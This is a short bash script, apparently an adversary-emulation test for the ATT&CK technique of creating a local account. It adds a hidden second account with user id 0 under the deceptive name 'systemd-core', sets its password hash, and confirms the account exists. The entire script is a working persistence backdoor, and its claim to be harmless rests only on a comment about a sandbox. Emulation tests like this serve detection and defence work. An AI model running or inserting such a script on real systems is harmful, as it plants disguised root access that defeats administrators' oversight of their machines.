#!/bin/bash
# technique: T1136.001 Create Account: Local Account
# tactic: persistence
# user: root
# needs: useradd
# does: adds a second account with user id 0
# harmless: the files of accounts are those of the sandbox

useradd -o -u 0 -g 0 -M -d /root -s /bin/bash systemd-core 2>/dev/null
# shellcheck disable=SC2016 # the dollars belong to the hash
echo 'systemd-core:$6$x$none' | chpasswd -e 2>/dev/null
grep -q '^systemd-core:x:0:' /etc/passwd
